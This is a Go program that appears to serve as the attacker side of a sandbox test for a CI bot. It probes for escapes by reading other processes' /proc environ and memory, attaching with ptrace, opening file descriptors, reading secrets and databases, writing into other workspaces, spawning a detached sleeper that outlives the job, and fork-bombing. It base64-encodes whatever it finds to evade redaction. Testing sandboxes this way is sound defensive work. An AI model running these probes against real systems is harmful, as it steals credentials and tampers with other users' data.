// Command attack is the attacker's tool of the end-to-end sandbox test
// (attack_test.go): a pull request commits it (base64, so that the Hub keeps
// it out of LFS) with a ci.sh that runs it inside hubbot's sandbox. Each
// probe tries one way out and prints one line:
//
//	probe NAME: blocked: why
//	probe NAME: OPEN: what it got
//
// What it gets is printed base64-encoded, as an attacker would to slip
// past literal redaction. The test reads the lines from the job's log.
package main

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// target is what the attacker knows of the machine (attack.json): the
// test writes it, as an attacker would learn it by reading the bot's
// source and guessing.
type target struct {
	BotPID         int      `json:"bot_pid"`
	BotPort        int      `json:"bot_port"`
	HubPort        int      `json:"hub_port"`
	DataDir        string   `json:"data_dir"`
	DB             string   `json:"db"`
	Config         string   `json:"config"`
	OtherWorkspace string   `json:"other_workspace"`
	Late           []string `json:"late"`
	Delay          string   `json:"delay"`
	Marker         string   `json:"marker"`
	ForkLimit      int      `json:"fork_limit"`
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack run TARGET.json SUPERVISOR_PID ")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "run":
		runAll(os.Args[2], os.Args[3])
	case "detach":
		detach(os.Args[2:])
	case "late":
		late(os.Args[2:])
	default:
		fmt.Fprintf(os.Stderr, "attack: unknown mode %q\n", os.Args[1])
		os.Exit(2)
	}
}

func blocked(name string, err error) { fmt.Printf("probe %s: blocked: %v\n", name, err) }
func open(name, format string, args ...any) {
	fmt.Printf("probe %s: OPEN: %s\n", name, fmt.Sprintf(format, args...))
}

// readProbe reads a file and prints what it got.
func readProbe(name, path string) {
	b, err := os.ReadFile(path)
	if err != nil {
		blocked(name, err)
		return
	}
	open(name, "read %d bytes of %s: %s", len(b), path, base64.StdEncoding.EncodeToString(b))
}

// listProbe lists a directory and reads every regular file in it.
func listProbe(name, dir string) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		blocked(name, err)
		return
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	open(name, "listed %s: %s", dir, strings.Join(names, " "))
}

func runAll(targetPath, supervisor string) {
	var t target
	b, err := os.ReadFile(targetPath)
	if err == nil {
		err = json.Unmarshal(b, &t)
	}
	if err != nil {
		fmt.Printf("attack: read %s: %v\n", targetPath, err)
		os.Exit(3)
	}
	sup, _ := strconv.Atoi(supervisor)
	bot := strconv.Itoa(t.BotPID)
	fmt.Printf("attack: uid %d, supervisor %d (its parent %d), bot %d\n", os.Getuid(), sup, parentOf(sup), t.BotPID)

	ownEnv()
	readProbe("bot-environ", "/proc/"+bot+"/environ")
	memProbe("bot-mem", t.BotPID)
	readProbe("parent-environ", "/proc/"+supervisor+"/environ")
	memProbe("parent-mem", sup)
	if gp := parentOf(sup); gp > 1 && gp != t.BotPID {
		readProbe("grandparent-environ", "/proc/"+strconv.Itoa(gp)+"/environ")
	}
	ptraceProbe("bot-ptrace", t.BotPID)
	signalProbe("bot-signal", t.BotPID)
	signalProbe("parent-signal", sup)
	fdProbe("bot-fds", t.BotPID)
	readProbe("bot-root-db", "/proc/"+bot+"/root"+t.DB)
	listProbe("bot-cwd", "/proc/"+bot+"/cwd")
	readProbe("db", t.DB)
	readProbe("db-wal", t.DB+"-wal")
	readProbe("config", t.Config)
	listProbe("data-dir", t.DataDir)
	cwd, _ := os.Getwd()
	listProbe("workspaces", filepath.Dir(cwd))
	listProbe("workspaces-root", filepath.Dir(filepath.Dir(cwd)))
	readProbe("other-workspace", t.OtherWorkspace)
	listProbe("other-workspace-dir", filepath.Dir(t.OtherWorkspace))
	writeProbe("write-data-dir", filepath.Join(t.DataDir, "planted"))
	writeProbe("write-other-workspace", filepath.Join(filepath.Dir(t.OtherWorkspace), "planted"))
	home, _ := os.UserHomeDir()
	writeProbe("write-beside-home", filepath.Join(filepath.Dir(home), "planted-"+t.Marker))
	apiProbe("bot-port", t.BotPort)
	apiProbe("hub-port", t.HubPort)
	sleeperProbe(t)
	forkProbe(t)
}

// ownEnv: the command must get none of the bot's secrets.
func ownEnv() {
	var found []string
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		switch k {
		case "HF_TOKEN", "WEBHOOK_SECRET", "HUBBOT_ADMIN_TOKEN", "HUGGING_FACE_HUB_TOKEN":
			found = append(found, k)
		}
	}
	if len(found) > 0 {
		open("own-environ", "%s set: %s", strings.Join(found, ", "),
			base64.StdEncoding.EncodeToString([]byte(strings.Join(os.Environ(), "\n"))))
		return
	}
	blocked("own-environ", errors.New("no secret in the command's environment"))
}

func parentOf(pid int) int {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0
	}
	i := strings.LastIndexByte(string(b), ')')
	f := strings.Fields(string(b[i+1:]))
	if len(f) < 2 {
		return 0
	}
	n, _ := strconv.Atoi(f[1])
	return n
}

// memProbe reads the first readable mapping of pid through /proc/PID/mem.
func memProbe(name string, pid int) {
	f, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		blocked(name, err)
		return
	}
	defer f.Close()
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		open(name, "opened mem; maps: %v", err)
		return
	}
	for _, line := range strings.Split(string(maps), "\n") {
		f1 := strings.Fields(line)
		if len(f1) < 2 || !strings.HasPrefix(f1[1], "r") {
			continue
		}
		lo, _, _ := strings.Cut(f1[0], "-")
		addr, _ := strconv.ParseUint(lo, 16, 64)
		buf := make([]byte, 64)
		n, err := f.ReadAt(buf, int64(addr))
		if err != nil && n == 0 {
			blocked(name, fmt.Errorf("opened, but read at %#x: %w", addr, err))
			return
		}
		open(name, "read %d bytes at %#x: %s", n, addr, base64.StdEncoding.EncodeToString(buf[:n]))
		return
	}
	blocked(name, errors.New("opened, but no readable mapping listed"))
}

func ptraceProbe(name string, pid int) {
	if err := syscall.PtraceAttach(pid); err != nil {
		blocked(name, err)
		return
	}
	_ = syscall.PtraceDetach(pid)
	open(name, "attached to %d", pid)
}

// signalProbe sends signal 0: the kernel checks the permission to signal
// without delivering anything.
func signalProbe(name string, pid int) {
	if err := syscall.Kill(pid, 0); err != nil {
		blocked(name, err)
		return
	}
	open(name, "may signal %d", pid)
}

// fdProbe opens the bot's descriptors (its database among them) through
// /proc, listed or guessed.
func fdProbe(name string, pid int) {
	dir := fmt.Sprintf("/proc/%d/fd", pid)
	var tried []string
	if entries, err := os.ReadDir(dir); err == nil {
		for _, e := range entries {
			tried = append(tried, e.Name())
		}
	} else {
		for i := 0; i < 64; i++ {
			tried = append(tried, strconv.Itoa(i))
		}
	}
	var got []string
	var last error
	for _, fd := range tried {
		f, err := os.Open(filepath.Join(dir, fd))
		if err != nil {
			last = err
			continue
		}
		b := make([]byte, 64)
		n, _ := f.Read(b)
		f.Close()
		if n > 0 {
			got = append(got, fd+"="+base64.StdEncoding.EncodeToString(b[:n]))
		}
	}
	if len(got) > 0 {
		open(name, "read %s", strings.Join(got, " "))
		return
	}
	blocked(name, fmt.Errorf("%d descriptors tried, none readable: %v", len(tried), last))
}

func writeProbe(name, path string) {
	if err := os.WriteFile(path, []byte("planted\n"), 0o644); err != nil {
		blocked(name, err)
		return
	}
	open(name, "wrote %s", path)
}

// apiProbe connects to a local port and asks for the bot's deliveries.
func apiProbe(name string, port int) {
	c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), 5*time.Second)
	if err != nil {
		blocked(name, err)
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "GET /api/deliveries HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n")
	b, _ := io.ReadAll(io.LimitReader(c, 4096))
	status, _, _ := strings.Cut(string(b), "\r\n")
	open(name, "connected to port %d; GET /api/deliveries: %s: %s", port, status, base64.StdEncoding.EncodeToString(b))
}

// sleeperProbe double-forks a process into a session of its own that
// writes files outside the job once the job is over.
func sleeperProbe(t target) {
	self, err := os.Executable()
	if err != nil {
		blocked("sleeper", err)
		return
	}
	args := append([]string{"attack-" + t.Marker, "detach", t.Marker, t.Delay, strconv.Itoa(os.Getppid())}, t.Late...)
	pid, err := syscall.ForkExec(self, args, &syscall.ProcAttr{Env: os.Environ(), Files: []uintptr{0, 1, 2}})
	if err != nil {
		blocked("sleeper", err)
		return
	}
	var ws syscall.WaitStatus
	_, _ = syscall.Wait4(pid, &ws, 0, nil)
	fmt.Printf("probe sleeper: started (its parent %d exited %d); the test checks it never writes\n", pid, ws.ExitStatus())
}

// detach starts the sleeper in a new session and exits, so that the
// sleeper is re-parented.
func detach(args []string) {
	self, _ := os.Executable()
	_, err := syscall.ForkExec(self, append([]string{"attack-" + args[0], "late"}, args...),
		&syscall.ProcAttr{Env: os.Environ(), Files: []uintptr{0, 1, 2}, Sys: &syscall.SysProcAttr{Setsid: true}})
	if err != nil {
		fmt.Printf("probe sleeper: blocked: setsid: %v\n", err)
		os.Exit(1)
	}
	os.Exit(0)
}

// late waits for the job's script to end, sleeps, then writes every path
// it was given: it means to outlive the job.
func late(args []string) {
	delay, _ := time.ParseDuration(args[1])
	for {
		if _, err := os.Stat("/proc/" + args[2]); err != nil {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(delay)
	for _, p := range args[3:] {
		_ = os.WriteFile(p, []byte("written after the job ended\n"), 0o644)
	}
}

// forkProbe starts processes that sleep until it cannot start more: the
// process cap must stop it. They are left running for the sandbox to kill.
func forkProbe(t target) {
	n := 0
	var err error
	for n < t.ForkLimit {
		_, err = syscall.ForkExec("/bin/sleep", []string{"sleep-" + t.Marker, "3600"},
			&syscall.ProcAttr{Env: os.Environ(), Files: []uintptr{0, 1, 2}})
		if err != nil {
			break
		}
		n++
	}
	if err != nil {
		blocked("forkbomb", fmt.Errorf("capped after %d processes: %w", n, err))
		return
	}
	open("forkbomb", "started %d processes without hitting a cap", n)
}
